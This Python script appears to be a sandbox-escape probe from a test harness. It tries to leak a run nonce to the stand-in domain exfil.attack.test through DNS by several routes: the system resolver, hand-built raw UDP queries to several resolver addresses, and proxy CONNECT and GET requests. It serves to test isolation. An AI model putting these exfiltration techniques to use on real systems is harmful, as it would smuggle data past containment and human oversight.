# dns_exfil: get a name that holds the run's nonce looked up, which is how
# code smuggles data out through DNS: by the sandbox's resolver, by a query
# sent straight to a DNS server (the harness's, on the host's loopback), and
# by asking the proxy for the name. Only the harness's DNS server seeing the
# name decides.
import socket
import struct


def query(name):
    q = struct.pack(">HHHHHH", 0x4d4f, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", 1, 1)


def attack():
    name = P["nonce"][:24] + ".exfil.attack.test"
    try:
        socket.getaddrinfo(name, 443)
    except BaseException as e:
        fail(e, "getaddrinfo")
    for host in ("127.0.0.1", "127.0.0.53", "10.0.2.3"):
        for port in (P["ports"]["dns"], 53):
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.settimeout(0.5)
                s.sendto(query(name), (host, port))
                try:
                    s.recvfrom(512)
                except socket.timeout:
                    pass
                s.close()
            except BaseException as e:
                fail(e, "udp %s:%d" % (host, port))
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(1)
        s.connect(("127.0.0.1", P["ports"]["dns"]))
        s.close()
    except BaseException as e:
        fail(e, "tcp dns")
    for way in ("connect", "get"):
        try:
            if way == "connect":
                proxy_connect(name, 443).close()
            else:
                proxy_get("http://%s/" % name)
        except BaseException as e:
            refused(e, "proxy " + way)
    sys.exit(3)


main(attack)
